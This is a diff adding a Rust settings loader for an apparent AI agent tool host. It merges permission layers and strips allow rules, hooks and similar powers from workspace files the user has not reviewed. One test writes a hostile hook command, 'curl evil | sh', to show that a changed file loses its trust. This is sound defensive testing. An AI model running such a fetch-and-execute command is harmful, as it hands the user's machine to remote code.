@@ -1,0 +1,545 @@
+//! Settings files: permission rules, the default mode, more working
+//! directories, hooks and the audit log, in the JSON shape Claude Code's
+//! users know:
+//!
+//! ```json
+//! {
+//!   "permissions": {
+//!     "allow": ["Bash(npm run test:*)", "Edit(./src/**)"],
+//!     "ask": ["Bash(git push:*)"],
+//!     "deny": ["Read(./.env)", "WebFetch"],
+//!     "defaultMode": "acceptEdits",
+//!     "additionalDirectories": ["../shared"]
+//!   },
+//!   "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./check.sh"}]}]},
+//!   "auditLog": "~/.local/state/toolhost/audit.jsonl"
+//! }
+//! ```
+//!
+//! Layers, strongest first: managed (`/etc/toolhost/managed-settings.json`,
+//! or `$TOOLHOST_MANAGED_SETTINGS`), command line (`--settings`, `--allow`,
+//! `--ask`, `--deny`, `--mode`), local (`.toolhost/settings.local.json` in the
+//! workspace), project (`.toolhost/settings.json`), user
+//! (`~/.config/toolhost/settings.json`). Rules of every layer apply together
+//! (deny > ask > allow whatever their layer); for single values (the mode,
+//! the audit log) the strongest layer that sets one wins. Directories and
+//! hooks add up.
+
+use super::PermissionMode;
+use super::hooks::HooksConfig;
+use super::rules::{Behavior, Rule, RuleEntry};
+use serde::Deserialize;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+/// A settings layer, strongest first.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Layer {
+    Managed,
+    CommandLine,
+    Local,
+    Project,
+    User,
+}
+
+impl fmt::Display for Layer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            Layer::Managed => "managed",
+            Layer::CommandLine => "command line",
+            Layer::Local => "local",
+            Layer::Project => "project",
+            Layer::User => "user",
+        })
+    }
+}
+
+/// A settings file that could not be used.
+#[derive(Debug, thiserror::Error)]
+pub enum SettingsError {
+    #[error("settings file {file}: {message}")]
+    Invalid { file: String, message: String },
+    #[error("settings file {file}: cannot read it: {source}")]
+    Read { file: String, source: std::io::Error },
+}
+
+/// Where settings come from. [`Sources::standard`] fills in the usual files.
+#[derive(Clone, Debug, Default)]
+pub struct Sources {
+    pub managed: Option<PathBuf>,
+    pub user: Option<PathBuf>,
+    /// `.toolhost/settings.json` of the workspace.
+    pub project: Option<PathBuf>,
+    /// `.toolhost/settings.local.json` of the workspace (where "allow
+    /// always" writes).
+    pub local: Option<PathBuf>,
+    /// `--settings`: files, or JSON text starting with `{`.
+    pub command_line_files: Vec<String>,
+    /// `--allow`, `--ask`, `--deny`.
+    pub command_line_rules: Vec<(Behavior, String)>,
+    /// `--mode`.
+    pub command_line_mode: Option<PermissionMode>,
+    /// Where `toolhost trust` records the project and local files the user
+    /// reviewed; `None`: trust them as they are.
+    pub trust_store: Option<PathBuf>,
+}
+
+impl Sources {
+    /// The standard files for `workspace`: managed, user, project, local.
+    pub fn standard(workspace: &Path) -> Sources {
+        let managed = std::env::var_os("TOOLHOST_MANAGED_SETTINGS")
+            .map(PathBuf::from)
+            .unwrap_or_else(|| PathBuf::from("/etc/toolhost/managed-settings.json"));
+        Sources {
+            managed: Some(managed).filter(|p| !p.as_os_str().is_empty()),
+            user: Some(crate::fsx::config_dir().join("settings.json")),
+            project: Some(workspace.join(".toolhost/settings.json")),
+            local: Some(workspace.join(".toolhost/settings.local.json")),
+            trust_store: Some(crate::fsx::config_dir().join("trusted-settings.json")),
+            ..Sources::default()
+        }
+    }
+}
+
+/// Every layer, merged.
+#[derive(Clone, Debug, Default)]
+pub struct Settings {
+    /// Every rule, strongest layer first.
+    pub rules: Vec<RuleEntry>,
+    /// The mode of the strongest layer that sets one.
+    pub mode: Option<PermissionMode>,
+    /// `permissions.disableBypassPermissionsMode: "disable"` in managed settings.
+    pub bypass_disabled: bool,
+    pub additional_dirs: Vec<PathBuf>,
+    /// Each file's hooks, with the file's name.
+    pub hooks: Vec<(HooksConfig, String)>,
+    pub audit_log: Option<PathBuf>,
+    /// `maxToolConcurrency`: calls the scheduler runs at once (strongest
+    /// layer that sets it).
+    pub max_tool_concurrency: Option<usize>,
+    /// Where "allow always" writes rules.
+    pub local_file: Option<PathBuf>,
+    /// The files that were read, with their layer.
+    pub files: Vec<(Layer, String)>,
+    /// Project and local files not trusted as they are, and what of them was
+    /// ignored.
+    pub untrusted: Vec<(String, Vec<&'static str>)>,
+    /// The trust store, and whether the local file was trusted (so "allow
+    /// always" may keep it trusted after adding its rule).
+    pub trust: Option<(PathBuf, bool)>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(rename_all = "camelCase")]
+struct FileShape {
+    #[serde(default)]
+    permissions: PermissionsShape,
+    #[serde(default)]
+    hooks: Option<HooksConfig>,
+    #[serde(default)]
+    audit_log: Option<String>,
+    #[serde(default)]
+    max_tool_concurrency: Option<usize>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(rename_all = "camelCase")]
+struct PermissionsShape {
+    #[serde(default)]
+    allow: Vec<String>,
+    #[serde(default)]
+    ask: Vec<String>,
+    #[serde(default)]
+    deny: Vec<String>,
+    #[serde(default)]
+    default_mode: Option<String>,
+    #[serde(default)]
+    additional_directories: Vec<String>,
+    #[serde(default)]
+    disable_bypass_permissions_mode: Option<String>,
+}
+
+impl FileShape {
+    /// Removes what only a trusted file may set, and names it.
+    fn strip_powers(&mut self) -> Vec<&'static str> {
+        let mut ignored = Vec::new();
+        let p = &mut self.permissions;
+        if !p.allow.is_empty() {
+            p.allow.clear();
+            ignored.push("allow rules");
+        }
+        if p.default_mode.as_deref().is_some_and(|m| !matches!(m, "default" | "plan" | "dontAsk")) {
+            p.default_mode = None;
+            ignored.push("defaultMode");
+        }
+        if !p.additional_directories.is_empty() {
+            p.additional_directories.clear();
+            ignored.push("additionalDirectories");
+        }
+        if self.hooks.take().is_some_and(|h| h != HooksConfig::default()) {
+            ignored.push("hooks");
+        }
+        if self.audit_log.take().is_some() {
+            ignored.push("auditLog");
+        }
+        ignored
+    }
+}
+
+/// The project and local settings files the user trusts, each with the
+/// SHA-256 of the contents they reviewed: a file changed since (by a
+/// `git pull`, or by a command a tool ran) is untrusted again.
+#[derive(Debug, Default, serde::Serialize, Deserialize)]
+pub struct TrustStore {
+    files: std::collections::BTreeMap<String, String>,
+}
+
+impl TrustStore {
+    /// Reads the store at `path` (missing or unreadable: empty).
+    pub fn load(path: &Path) -> TrustStore {
+        std::fs::read_to_string(path).ok().and_then(|t| serde_json::from_str(&t).ok()).unwrap_or_default()
+    }
+
+    fn key(file: &Path) -> String {
+        let absolute = std::path::absolute(file).unwrap_or_else(|_| file.to_path_buf());
+        absolute.canonicalize().unwrap_or(absolute).to_string_lossy().into_owned()
+    }
+
+    /// Whether `file`, holding `text`, is trusted.
+    pub fn trusts(&self, file: &Path, text: &str) -> bool {
+        self.files.get(&Self::key(file)).is_some_and(|h| *h == crate::registry::content_hash(text.as_bytes()))
+    }
+
+    /// Trusts `file` as it is now.
+    pub fn trust(&mut self, file: &Path) -> std::io::Result<()> {
+        let text = std::fs::read(file)?;
+        self.files.insert(Self::key(file), crate::registry::content_hash(&text));
+        Ok(())
+    }
+
+    /// Writes the store to `path`.
+    pub fn save(&self, path: &Path) -> std::io::Result<()> {
+        crate::fsx::replace_file(path, serde_json::to_string_pretty(self).unwrap_or_default().as_bytes())
+    }
+}
+
+/// Reads every layer. A missing standard file is fine; a missing
+/// `--settings` file, an unreadable file or a malformed one is an error that
+/// names the file and the line.
+pub fn load(sources: &Sources, cwd: &Path) -> Result<Settings, SettingsError> {
+    let mut settings = Settings { local_file: sources.local.clone(), ..Settings::default() };
+    let home = std::env::home_dir();
+    let mut modes: Vec<(Layer, PermissionMode)> = Vec::new();
+    let mut audit: Vec<(Layer, PathBuf)> = Vec::new();
+    let mut concurrency: Vec<(Layer, usize)> = Vec::new();
+    // Read once, when a workspace file needs it.
+    let mut trust_store: Option<TrustStore> = None;
+
+    let mut files: Vec<(Layer, String, bool)> = Vec::new();
+    if let Some(m) = &sources.managed {
+        files.push((Layer::Managed, m.to_string_lossy().into_owned(), false));
+    }
+    for f in &sources.command_line_files {
+        files.push((Layer::CommandLine, f.clone(), true));
+    }
+    for (layer, file) in
+        [(Layer::Local, &sources.local), (Layer::Project, &sources.project), (Layer::User, &sources.user)]
+    {
+        if let Some(f) = file {
+            files.push((layer, f.to_string_lossy().into_owned(), false));
+        }
+    }
+
+    for (layer, name, required) in files {
+        let (text, base, label) = if name.trim_start().starts_with('{') && layer == Layer::CommandLine {
+            (name.clone(), None, "--settings JSON".to_string())
+        } else {
+            match std::fs::read_to_string(&name) {
+                Ok(t) => {
+                    let file = std::path::absolute(&name).unwrap_or_else(|_| PathBuf::from(&name));
+                    (t, file.parent().map(Path::to_path_buf), name.clone())
+                }
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound && !required => continue,
+                Err(source) => return Err(SettingsError::Read { file: name, source }),
+            }
+        };
+        let invalid = |message: String| SettingsError::Invalid { file: label.clone(), message };
+        let shape: FileShape = if text.trim().is_empty() {
+            FileShape::default()
+        } else {
+            serde_json::from_str(&text).map_err(|e| invalid(describe_json_error(&e)))?
+        };
+        settings.files.push((layer, label.clone()));
+        let origin: Arc<str> = Arc::from(format!("{layer} settings {label}"));
+        let mut shape = shape;
+        // Everything is checked, trusted or not: a malformed file is an error.
+        for text_rule in shape.permissions.allow.iter().chain(&shape.permissions.ask).chain(&shape.permissions.deny) {
+            Rule::parse(text_rule).map_err(|e| invalid(format!("{}: {e}", at_line(&text, text_rule))))?;
+        }
+        if let Some(mode) = &shape.permissions.default_mode {
+            mode.parse::<PermissionMode>()
+                .map_err(|e| invalid(format!("{}: permissions.defaultMode: {e}", at_line(&text, mode))))?;
+        }
+        if let Some(hooks) = &shape.hooks {
+            super::hooks::Hooks::compile(&[(hooks.clone(), String::new())])
+                .map_err(|e| invalid(e.to_string().trim_start_matches(": ").to_string()))?;
+        }
+        // Files that come with the workspace may only restrict until the user
+        // has reviewed them as they are (`toolhost trust`): a cloned
+        // repository must not run hooks, allow calls or widen the sandbox.
+        if matches!(layer, Layer::Project | Layer::Local)
+            && let Some(store) = &sources.trust_store
+        {
+            let trusted = trust_store.get_or_insert_with(|| TrustStore::load(store)).trusts(Path::new(&name), &text);
+            if layer == Layer::Local {
+                settings.trust = Some((store.clone(), trusted));
+            }
+            if !trusted {
+                let ignored = shape.strip_powers();
+                if !ignored.is_empty() {
+                    settings.untrusted.push((label.clone(), ignored));
+                }
+            }
+        }
+        let p = shape.permissions;
+        for (behavior, list) in [(Behavior::Deny, &p.deny), (Behavior::Ask, &p.ask), (Behavior::Allow, &p.allow)] {
+            for text_rule in list {
+                let rule =
+                    Rule::parse(text_rule).map_err(|e| invalid(format!("{}: {e}", at_line(&text, text_rule))))?;
+                settings.rules.push(RuleEntry { rule, behavior, origin: Arc::clone(&origin), base: base.clone() });
+            }
+        }
+        if let Some(mode) = &p.default_mode {
+            let parsed = mode
+                .parse::<PermissionMode>()
+                .map_err(|e| invalid(format!("{}: permissions.defaultMode: {e}", at_line(&text, mode))))?;
+            modes.push((layer, parsed));
+        }
+        if let Some(v) = &p.disable_bypass_permissions_mode {
+            match (v.as_str(), layer) {
+                ("disable", Layer::Managed) => settings.bypass_disabled = true,
+                ("disable", _) => {
+                    tracing::warn!(file = %label, "disableBypassPermissionsMode only counts in managed settings")
+                }
+                (other, _) => {
+                    return Err(invalid(format!(
+                        "{}: permissions.disableBypassPermissionsMode must be \"disable\", not {other:?}",
+                        at_line(&text, other)
+                    )));
+                }
+            }
+        }
+        for dir in &p.additional_directories {
+            settings.additional_dirs.push(expand(dir, cwd, home.as_deref()));
+        }
+        if let Some(hooks) = shape.hooks {
+            settings.hooks.push((hooks, label.clone()));
+        }
+        if let Some(log) = &shape.audit_log {
+            audit.push((layer, expand(log, cwd, home.as_deref())));
+        }
+        if let Some(n) = shape.max_tool_concurrency {
+            if n == 0 {
+                return Err(invalid(format!(
+                    "{}: maxToolConcurrency must be at least 1",
+                    at_line(&text, "maxToolConcurrency")
+                )));
+            }
+            concurrency.push((layer, n));
+        }
+    }
+    let origin: Arc<str> = Arc::from("command line");
+    for (behavior, text) in &sources.command_line_rules {
+        let rule = Rule::parse(text)
+            .map_err(|e| SettingsError::Invalid { file: format!("--{}", behavior.as_str()), message: e.to_string() })?;
+        settings.rules.push(RuleEntry { rule, behavior: *behavior, origin: Arc::clone(&origin), base: None });
+    }
+    if let (None, Some(store), Some(local)) = (&settings.trust, &sources.trust_store, &sources.local) {
+        // No local file yet: the first one is toolhost's own ("allow always").
+        settings.trust = Some((store.clone(), !local.exists()));
+    }
+    if let Some(mode) = sources.command_line_mode {
+        modes.push((Layer::CommandLine, mode));
+    }
+    // Stable sorts: the strongest layer first, file order within a layer.
+    modes.sort_by_key(|(l, _)| *l);
+    audit.sort_by_key(|(l, _)| *l);
+    settings.mode = modes.first().map(|(_, m)| *m);
+    settings.audit_log = audit.into_iter().next().map(|(_, p)| p);
+    concurrency.sort_by_key(|(l, _)| *l);
+    settings.max_tool_concurrency = concurrency.first().map(|(_, n)| *n);
+    Ok(settings)
+}
+
+/// A JSON error in words, with its line and column.
+fn describe_json_error(e: &serde_json::Error) -> String {
+    let what = e.to_string();
+    // serde_json appends " at line L column C"; put the position first.
+    let bare = what.split(" at line ").next().unwrap_or(&what);
+    format!("line {} column {}: {bare}", e.line(), e.column())
+}
+
+/// "line N" of the first place `value` is written in `text`.
+fn at_line(text: &str, value: &str) -> String {
+    let quoted = serde_json::to_string(value).unwrap_or_default();
+    match text.find(&quoted).or_else(|| text.find(value)) {
+        Some(at) => format!("line {}", text[..at].matches('\n').count() + 1),
+        None => "a rule".to_string(),
+    }
+}
+
+/// `~/x` under home, relative paths under `cwd`.
+fn expand(path: &str, cwd: &Path, home: Option<&Path>) -> PathBuf {
+    match (path.strip_prefix("~/"), home) {
+        (Some(rest), Some(home)) => home.join(rest),
+        _ if path == "~" && home.is_some() => home.map(Path::to_path_buf).unwrap_or_default(),
+        _ => cwd.join(path),
+    }
+}
+
+/// Adds `rule` to the `allow` list of the settings file `file` (creating it
+/// and its directory), keeping everything else in it.
+pub fn add_allow_rule(file: &Path, rule: &str) -> Result<(), SettingsError> {
+    let name = file.display().to_string();
+    let mut value: serde_json::Value = match std::fs::read_to_string(file) {
+        Ok(text) if !text.trim().is_empty() => serde_json::from_str(&text)
+            .map_err(|e| SettingsError::Invalid { file: name.clone(), message: describe_json_error(&e) })?,
+        Ok(_) => serde_json::json!({}),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => serde_json::json!({}),
+        Err(source) => return Err(SettingsError::Read { file: name, source }),
+    };
+    let invalid = |message: &str| SettingsError::Invalid { file: name.clone(), message: message.to_string() };
+    let root = value.as_object_mut().ok_or_else(|| invalid("is not a JSON object"))?;
+    let permissions = root.entry("permissions").or_insert_with(|| serde_json::json!({}));
+    let permissions = permissions.as_object_mut().ok_or_else(|| invalid("`permissions` is not an object"))?;
+    let allow = permissions.entry("allow").or_insert_with(|| serde_json::json!([]));
+    let allow = allow.as_array_mut().ok_or_else(|| invalid("`permissions.allow` is not a list"))?;
+    if !allow.iter().any(|r| r.as_str() == Some(rule)) {
+        allow.push(serde_json::Value::String(rule.to_string()));
+    }
+    let write = |e: std::io::Error| SettingsError::Read { file: name.clone(), source: e };
+    let mut text = serde_json::to_string_pretty(&value).unwrap_or_default();
+    text.push('\n');
+    crate::fsx::replace_file(file, text.as_bytes()).map_err(write)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
+        let p = dir.join(name);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, text).unwrap();
+        p
+    }
+
+    #[test]
+    fn layers_merge_with_precedence() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path();
+        let sources = Sources {
+            managed: Some(write(d, "managed.json", r#"{"permissions": {"deny": ["WebFetch"]}}"#)),
+            user: Some(write(
+                d,
+                "user.json",
+                r#"{"permissions": {"allow": ["Bash(rm:*)"], "defaultMode": "plan"}, "auditLog": "user.log", "maxToolConcurrency": 4}"#,
+            )),
+            project: Some(write(
+                d,
+                "p/.toolhost/settings.json",
+                r#"{"permissions": {"deny": ["Bash(rm:*)"], "defaultMode": "acceptEdits", "additionalDirectories": ["../lib"]}}"#,
+            )),
+            local: Some(d.join("p/.toolhost/settings.local.json")),
+            command_line_files: vec![r#"{"auditLog": "cli.log"}"#.into()],
+            command_line_rules: vec![(Behavior::Ask, "Edit".into())],
+            command_line_mode: None,
+            trust_store: None,
+        };
+        let s = load(&sources, &d.join("p")).unwrap();
+        assert_eq!(s.mode, Some(PermissionMode::AcceptEdits), "project beats user");
+        assert_eq!(s.max_tool_concurrency, Some(4));
+        assert_eq!(s.audit_log, Some(d.join("p/cli.log")), "command line beats user");
+        assert_eq!(s.additional_dirs, vec![d.join("p/../lib")]);
+        let rules: Vec<String> = s
+            .rules
+            .iter()
+            .map(|r| format!("{} {} {}", r.behavior.as_str(), r.rule, r.origin.split(' ').next().unwrap()))
+            .collect();
+        assert_eq!(
+            rules,
+            ["deny WebFetch managed", "deny Bash(rm:*) project", "allow Bash(rm:*) user", "ask Edit command"]
+        );
+        let with_cli_mode = Sources { command_line_mode: Some(PermissionMode::DontAsk), ..sources };
+        assert_eq!(load(&with_cli_mode, d).unwrap().mode, Some(PermissionMode::DontAsk));
+    }
+
+    #[test]
+    fn workspace_files_count_only_once_trusted() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path();
+        let text = r#"{"permissions": {"allow": ["Bash"], "deny": ["Read(./.env)"], "defaultMode": "bypassPermissions",
+            "additionalDirectories": ["/"]}, "auditLog": "/tmp/x", "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "true"}]}]}}"#;
+        let project = write(d, "w/.toolhost/settings.json", text);
+        let store = d.join("trusted.json");
+        let sources =
+            Sources { project: Some(project.clone()), trust_store: Some(store.clone()), ..Sources::default() };
+        let powers =
+            |s: &Settings| (s.rules.len(), s.mode, s.additional_dirs.len(), s.audit_log.is_some(), s.hooks.len());
+        let untrusted = load(&sources, d).unwrap();
+        assert_eq!(powers(&untrusted), (1, None, 0, false, 0), "only the deny rule counts");
+        assert_eq!(
+            untrusted.untrusted[0].1,
+            ["allow rules", "defaultMode", "additionalDirectories", "hooks", "auditLog"]
+        );
+        let mut trusted = TrustStore::load(&store);
+        trusted.trust(&project).unwrap();
+        trusted.save(&store).unwrap();
+        let s = load(&sources, d).unwrap();
+        assert_eq!(powers(&s), (2, Some(PermissionMode::BypassPermissions), 1, true, 1));
+        assert!(s.untrusted.is_empty());
+        std::fs::write(&project, text.replace("true", "curl evil | sh")).unwrap();
+        assert_eq!(powers(&load(&sources, d).unwrap()), (1, None, 0, false, 0), "changed: untrusted again");
+    }
+
+    #[test]
+    fn malformed_files_name_the_file_and_line() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path();
+        for (text, want) in [
+            ("{\n  \"permissions\": {\n    \"allow\": [\"Bash(ls\"]\n  }\n}", "line 3: rule `Bash(ls`"),
+            ("{\n  \"permissions\": {\"allow\": [\"Read\",]}\n}", "line 2 column"),
+            ("{\n\n  \"permissions\": {\"allow\": \"Read\"}\n}", "line 3 column"),
+            (
+                "{\"permissions\": {\n\"defaultMode\": \"yolo\"}}",
+                "line 2: permissions.defaultMode: unknown permission mode",
+            ),
+            ("[1]", "line 1 column"),
+        ] {
+            let user = write(d, "bad.json", text);
+            let e = load(&Sources { user: Some(user.clone()), ..Sources::default() }, d).unwrap_err().to_string();
+            assert!(e.contains(&user.display().to_string()) && e.contains(want), "{text}: {e}");
+        }
+        let missing =
+            Sources { command_line_files: vec![d.join("nope.json").display().to_string()], ..Default::default() };
+        assert!(load(&missing, d).unwrap_err().to_string().contains("nope.json"));
+        let absent = Sources { user: Some(d.join("absent.json")), ..Default::default() };
+        assert!(load(&absent, d).is_ok(), "a missing standard file is no error");
+    }
+
+    #[test]
+    fn allow_always_keeps_the_rest_of_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join(".toolhost/settings.local.json");
+        add_allow_rule(&file, "Bash(npm run:*)").unwrap();
+        add_allow_rule(&file, "Bash(npm run:*)").unwrap();
+        std::fs::write(&file, r#"{"env": {"A": "1"}, "permissions": {"allow": ["Read"], "deny": ["X"]}}"#).unwrap();
+        add_allow_rule(&file, "Edit(./src/**)").unwrap();
+        let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
+        assert_eq!(
+            v,
+            serde_json::json!({"env": {"A": "1"}, "permissions": {"allow": ["Read", "Edit(./src/**)"], "deny": ["X"]}})
+        );
+    }
+}
